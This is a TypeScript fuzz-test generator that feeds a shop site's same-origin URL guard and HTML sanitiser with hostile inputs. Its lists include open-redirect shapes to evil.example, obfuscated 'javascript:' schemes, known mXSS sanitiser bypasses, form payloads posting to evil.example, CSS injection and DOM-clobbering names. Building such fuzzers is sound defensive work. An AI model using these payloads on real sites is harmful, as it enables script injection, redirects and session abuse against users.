// Seeded generators of known URL and HTML bypass shapes, for the fuzz passes over the same-origin guard and the sanitiser.

import fc from 'fast-check';
import { ENDPOINTS } from '../../shared/legacy/endpoints.ts';

/** One seed for every fuzz pass, so a failure replays exactly (fast-check prints the counterexample and path). */
export const FUZZ_SEED = 0x5f18a;
/**
 * A fuzz pass's own time limit: the sanitiser's 2,000 fragments take about 5 s on a busy 2-core machine, the mutation
 * run's limit per test (vitest.mutation.config.ts), which would fail its initial run.
 */
export const FUZZ_TIMEOUT_MS = 30_000;

const SHOP = 'shop.example';
const EVIL = 'evil.example';

/** Characters browsers strip or fold inside URLs and that servers decode differently. */
const NOISE = [
  '',
  ' ',
  '\t',
  '\n',
  '\r',
  '\u0000',
  '\u0001',
  '\u000b',
  '\u000c',
  '\u001f',
  '\u007f',
  '\u00a0',
  '\u2028',
];
const ENCODED_NOISE = ['%09', '%0a', '%0d', '%00', '%20', '%5c', '%2f', '%2F', '%5C', '%252f'];

const caseMix = (word: string) =>
  fc
    .array(fc.boolean(), { minLength: word.length, maxLength: word.length })
    .map((flags) => Array.from(word, (ch, i) => (flags[i] ? ch.toUpperCase() : ch)).join(''));

/** Characters the URL parser strips, or the guard refuses, inside a scheme. */
const INNER_NOISE = ['', '\t', '\n', '\r', '\u0000', '\u0001', '\u001f', '\u007f'];

/** A scheme spelled as an attacker would: mixed case, or with characters the URL parser drops inside it. */
const scriptScheme = fc.oneof(
  fc.constantFrom('javascript', 'vbscript', 'data', 'livescript', 'jar', 'file', 'blob', 'filesystem').chain(caseMix),
  fc
    .tuple(fc.constantFrom(['java', 'script'], ['jav', 'ascript'], ['ja', 'vascript']), fc.constantFrom(...INNER_NOISE))
    .chain(([[a, b], n]) => caseMix(`${a}${n}${b}`)),
);

/** HTML-level spellings of "javascript:" that only the HTML parser decodes (attribute values, not raw URLs). */
const ENTITY_SCHEMES = [
  '&#106;avascript:',
  '&#x6A;avascript:',
  '&#0000106avascript:',
  'javascript&colon;',
  'jav&#x09;ascript:',
  'jav&Tab;ascript:',
  '&#x20;javascript:',
];

const evilAuthority = fc.constantFrom(
  `//${EVIL}`,
  `///${EVIL}`,
  `/\\${EVIL}`,
  `\\\\${EVIL}`,
  `\\/${EVIL}`,
  `/%09/${EVIL}`,
  `/%0a/${EVIL}`,
  `/%5c${EVIL}`,
  `/%2f${EVIL}`,
  `/\t/${EVIL}`,
  `https:${EVIL}`,
  `https:/${EVIL}`,
  `https://${EVIL}`,
  `http://${EVIL}`,
  `https://${SHOP}@${EVIL}`,
  `https://${SHOP}.${EVIL}`,
  `https://${SHOP}:443@${EVIL}/`,
  `https://${EVIL}#@${SHOP}`,
  `https://${EVIL}\\@${SHOP}`,
  `https://user:pw@${SHOP}/`,
  `http://${SHOP}/`,
  `ftp://${SHOP}/`,
  `ws://${SHOP}/`,
  `https://${SHOP}:8443/`,
  'https://[::1',
  'http://%zz',
  'https://',
);

/** `..` as the URL parser reads it: plain, percent-encoded in any case, or half of each. */
const dotDot = fc.oneof(
  fc.constantFrom('..', '.%2e', '%2e.', '%2e%2e'),
  fc.constantFrom('.%2e', '%2e.', '%2e%2e').chain(caseMix),
);

/**
 * A path whose dot segments climb back to the root and leave `//host` (or `/%2fhost`, `/\\host`) behind:
 * `/x/..//evil.example`, `a/%2E%2e//evil.example`, relative or absolute, one or more levels deep.
 */
const dotSegmentEscape = fc
  .tuple(
    fc.constantFrom('/', '', './', `https://${SHOP}/`),
    fc.array(fc.stringMatching(/^[a-z0-9]{1,6}$/), { minLength: 1, maxLength: 3 }),
    fc.array(fc.constantFrom('', '.', '%2e', '%2E'), { minLength: 0, maxLength: 2 }),
    dotDot,
    fc.constantFrom('//', '/%2f', '/%2F', '/%5c', '/\\', '\\/', '/./'),
  )
  .chain(([start, parts, stays, up, slashes]) =>
    // As many `..` as directories, plus a few more (the parser stops at the root), so the climb always reaches `/`.
    fc.nat(2).map((extra) => {
      const ups = Array.from({ length: parts.length + 3 + extra }, () => up);
      const middle = [...parts, ...stays.filter(Boolean), ...ups].join('/');
      return `${start}${middle}${slashes === '/./' ? '/.//' : slashes}${EVIL}`;
    }),
  );

/** A URL meant to leave the site or run script: every one of these must be refused by the guard. */
export const hostileUrl: fc.Arbitrary<string> = fc.oneof(
  fc.tuple(dotSegmentEscape, fc.constantFrom('', '/', '/login', '?x=1', '#x')).map(([u, tail]) => `${u}${tail}`),
  fc
    .tuple(
      fc.constantFrom(...NOISE),
      scriptScheme,
      fc.constantFrom('alert(1)', 'text/html,<script>alert(1)</script>', 'msgbox(1)', '//%0aalert(1)'),
    )
    .map(([n, scheme, body]) => `${n}${scheme}:${body}`),
  fc
    .tuple(fc.constantFrom(...NOISE), evilAuthority, fc.constantFrom('', '/', '/login', '?x=1', '#x'))
    .map(([n, a, p]) => `${n}${a}${p}`),
);

/** A same-origin URL written plainly (relative or absolute, dot segments included): the guard must keep it. */
export const plainSameOriginUrl: fc.Arbitrary<string> = fc
  .tuple(
    fc.constantFrom('/', '', './', '../', `https://${SHOP}/`, '/x/../', '/a/%2e%2e/', 'b/.%2E/', '/c/./'),
    fc.array(fc.stringMatching(/^[a-z0-9_-]{1,8}$/), { minLength: 0, maxLength: 3 }),
    fc.constantFrom('', '?q=1', '?a=b&c=d', '#top'),
  )
  .map(([start, parts, tail]) => `${start}${parts.join('/')}${tail}`)
  .filter((u) => u !== '');

/** Anything in between: hostile shapes with noise spliced in at random places, and plain ones likewise. */
export const mixedUrl: fc.Arbitrary<string> = fc
  .tuple(
    fc.oneof(hostileUrl, plainSameOriginUrl),
    fc.nat(40),
    fc.constantFrom(...NOISE, ...ENCODED_NOISE, '/', '\\', '@', ':', '//', '#', '?'),
  )
  .map(([url, at, insert]) => url.slice(0, at) + insert + url.slice(at));

export const SHOP_BASE = `https://${SHOP}/fr/cart?x=1`;

const tagName = fc.oneof(
  fc
    .constantFrom(
      'script',
      'style',
      'iframe',
      'object',
      'embed',
      'base',
      'meta',
      'link',
      'template',
      'noscript',
      'svg',
      'math',
      'form',
      'textarea',
      'title',
      'xmp',
      'noembed',
      'select',
      'option',
      'table',
      'img',
      'a',
      'p',
      'div',
      'button',
      'input',
      'frameset',
      'mglyph',
      'mtext',
      'foreignobject',
      'desc',
      'sf-listing',
      'sf-async-section',
      'sf-product-qr',
      'sf-product-gallery',
      'sf-x',
      'plaintext',
      'form',
      'select',
      'fieldset',
      'output',
      'label',
      'textarea',
    )
    .chain(caseMix),
);

const attributeName = fc.oneof(
  fc.constantFrom('onerror', 'onload', 'onclick', 'onfocus', 'onbegin', 'onanimationstart', 'ontoggle').chain(caseMix),
  fc.constantFrom(
    'href',
    'src',
    'action',
    'formaction',
    'xlink:href',
    'srcdoc',
    'srcset',
    'data',
    'style',
    'product-url',
    'poster',
    'background',
    'http-equiv',
    'content',
    'is',
    'id',
    'name',
    'data-sf-x',
    'data-product-url',
    'data-ajax-url',
    'data-zoom-src',
    'class',
    'autofocus',
    'target',
    'ping',
    'cite',
    'for',
    'form',
    // (Not `list`: happy-dom's parser throws on a list value that is not a valid selector; the corpus covers it.)
    'formmethod',
    'aria-labelledby',
    'aria-describedby',
    'aria-owns',
    'aria-activedescendant',
    'aria-controls',
    'data-sf-changed',
    'data-sf-island',
    'data-sf-asleep',
    'data-sf-preview-active',
    'data-sf-track',
    'data-sf-track-order',
  ),
);

/** DOM properties a named form control would shadow on its form (the walk's own reads among them). */
const FORM_CLOBBER_NAMES = [
  'childNodes',
  'attributes',
  'localName',
  'namespaceURI',
  'nodeType',
  'parentNode',
  'removeAttribute',
  'setAttribute',
  'replaceWith',
  'hasAttribute',
  'getAttribute',
  'elements',
  'action',
  'submit',
];

/** Declarations that would take an element out of its fragment, over the page, or load what the image rule refuses. */
const ESCAPING_DECLARATIONS = [
  'position: fixed',
  'position:absolute',
  'position: sticky',
  'position: relative; top: -300px',
  'z-index: 2147483647',
  'inset: 0',
  'top: 0',
  'left: -9999px',
  'right:0',
  'bottom: 0',
  'transform: translate(0, -100vh)',
  'translate: 0 -50vh',
  'scale: 50',
  'rotate: 180deg',
  'margin-top: -200px',
  'margin: 0 0 -1px',
  'margin:-.5em',
  'margin: 0 calc(0px - 100vh)',
  'margin: var(--pulled)',
  'margin-left: max(-100vw, -1px)',
  'opacity: 0',
  'pointer-events: none',
  'clip-path: inset(0)',
  'filter: opacity(0)',
  'zoom: 50',
  'background: url(javascript:alert(1))',
  "background-image: url('data:text/html,<b>x</b>')",
  'background-image: url(https://user:pw@evil.example/x.png)',
  'width: expression(alert(1))',
  '-moz-binding: url(https://evil.example/x.xml#x)',
  'behavior: url(x.htc)',
  '--x: fixed',
];
/** Declarations the legacy markup uses: the fuzz pass checks some survive, or dropping every style would pass. */
const LEGACY_DECLARATIONS = [
  'color: #c00',
  'display: inline',
  'text-align: center',
  'font-weight: bold',
  'margin: 0 auto',
  'padding: 4px 8px',
  'background-image: url("https://cdn.example.net/b.png")',
  'width: 50%',
  'float: left',
  'font-family: "Open Sans", Arial',
  'background-color: rgb(255 0 0 / 50%)',
];
/** What splits, hides or escapes a declaration in CSS (escapes, comments, quotes, brackets, blocks). */
const CSS_NOISE = [
  '\\',
  '\\70 ',
  '/**/',
  '"',
  "'",
  ';',
  '(',
  ')',
  '{',
  '}',
  ' !important',
  '\n',
  '\t',
  '\u0000',
  ':',
  '-',
];

/** A style attribute's value: declarations, escaping or legacy, case-mixed, with CSS noise spliced in. */
export const hostileStyle: fc.Arbitrary<string> = fc
  .array(
    fc
      .tuple(
        fc.oneof(fc.constantFrom(...ESCAPING_DECLARATIONS), fc.constantFrom(...LEGACY_DECLARATIONS)),
        fc.option(fc.tuple(fc.nat(40), fc.constantFrom(...CSS_NOISE)), { freq: 3 }),
        fc.boolean(),
      )
      .chain(([declaration, noise, mixCase]) => {
        const spliced = noise ? declaration.slice(0, noise[0]) + noise[1] + declaration.slice(noise[0]) : declaration;
        return mixCase ? caseMix(spliced) : fc.constant(spliced);
      }),
    { minLength: 1, maxLength: 4 },
  )
  .chain((declarations) => fc.constantFrom(';', '; ', ';;', ' ; ').map((sep) => declarations.join(sep)));

const attributeValue = fc.oneof(
  hostileUrl,
  mixedUrl,
  plainSameOriginUrl,
  fc.constantFrom(...ENTITY_SCHEMES).map((s) => `${s}alert(1)`),
  fc.constantFrom(
    'alert(1)',
    'cookie',
    'getElementById',
    'requestIdleCallback',
    'scheduler',
    'dataLayer',
    '0;url=https://evil.example/',
    '<img src=x onerror=alert(1)>',
    '</style><img src=x onerror=alert(1)>',
    '_blank',
    'x',
    ...FORM_CLOBBER_NAMES,
    'purchase',
    'begin_checkout',
    'view_item_list',
    'sf-preview-toggle',
    'sf-overlay',
    'sf-listing__back-to-top is-visible',
    'sf-status-bar',
  ),
);

const quoted = fc
  .tuple(attributeValue, fc.constantFrom('"', "'", '', '`'))
  .map(([v, q]) => (q === '' ? v.replace(/[\s>]/g, '') : `${q}${v.split(q).join('')}${q}`));

const attribute = fc
  .tuple(attributeName, fc.constantFrom('=', ' = ', '=', '/='), quoted)
  .map(([n, eq, v]) => `${n}${eq}${v}`);

/** Shapes from published sanitiser bypasses (namespace confusion, raw-text elements, comment tricks). */
const KNOWN_MXSS = [
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<select><template><style><img src=x onerror=alert(1)>',
  '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)>-->',
  '<title><img src=x onerror=alert(1)></title>',
  '<textarea></textarea><img src=x onerror=alert(1)>',
  '<a href="&#x6A;avascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<base href="javascript:/a/-alert(1)///////"><a href=../lol/safari.html>x</a>',
  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<details open ontoggle=alert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<form action="https://evil.example/"><button formaction="javascript:alert(1)">x</button></form>',
  '<input onfocus=alert(1) autofocus>',
  '<img name="cookie"><form name="getElementById"></form>',
  '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>',
  '<table><caption><svg><style><img src=x onerror=alert(1)>',
  '<sf-listing data-widget-ajax-url="javascript:alert(1)" onclick="alert(1)"><script>alert(1)</script></sf-listing>',
  `<sf-async-section data-ajax-url="${ENDPOINTS.logout.path}" data-async-load-handle-id="1"></sf-async-section>`,
  '<sf-product-qr data-product-url="/x/..//evil.example/"></sf-product-qr>',
  // A control named after a DOM property of its form hides the form's content or attributes from a naive walk.
  ...FORM_CLOBBER_NAMES.map(
    (name) =>
      `<form action="https://evil.example/" onmouseover=alert(1) style="position:fixed;inset:0"><input name="${name}"><img src=x onerror=alert(1)><sf-async-section data-ajax-url="${ENDPOINTS.logout.path}"></sf-async-section></form>`,
  ),
  '<form><button id="attributes"></button><select name="childNodes"></select><img name="nodeType" src=x onerror=alert(1)></form>',
  // Duplicate ids: a reference that the page's element of the same id would answer once inserted.
  '<i id="fuzz"></i><label for="fuzz">x</label><button form="fuzz" formaction="/x" formmethod="get">b</button>',
  '<p aria-labelledby="fuzz" aria-owns="fuzz" aria-activedescendant="fuzz">x</p>',
  // The bundle's own fixed layers and state marks.
  '<label class="sf-preview-toggle"><img src="data:image/png;base64,iVBORw0KGgo=" width="4000" height="3000" alt=""></label>',
  '<div class="sf-overlay sf-listing__back-to-top is-visible">x</div>',
  '<form data-sf-unsaved-warning data-sf-changed="true"></form><div data-sf-island data-sf-asleep data-sf-preview-active></div>',
  `<div data-sf-track="purchase" data-sf-track-order='{"Code":"X1","Total":4999}'></div>`,
];

const junk = fc.constantFrom(
  '<',
  '</',
  '>',
  '"',
  "'",
  '<!--',
  '-->',
  '<![CDATA[',
  ']]>',
  '<?',
  '&',
  '&#',
  '/>',
  '=',
  '`',
  '\u0000',
);

/** A server fragment built from those pieces: nested tags, hostile attributes, broken markup and known mXSS shapes. */
export const hostileHtml: fc.Arbitrary<string> = fc.letrec<{ node: string }>((tie) => ({
  node: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    fc.constantFrom(...KNOWN_MXSS),
    fc.stringMatching(/^[a-z <>]{0,12}$/),
    junk,
    fc
      .tuple(tagName, fc.array(attribute, { maxLength: 3 }), fc.array(tie('node'), { maxLength: 3 }), fc.boolean())
      .map(
        ([tag, attrs, children, close]) =>
          `<${tag}${attrs.map((a) => ` ${a}`).join('')}>${children.join('')}${close ? `</${tag}>` : ''}`,
      ),
  ),
})).node;
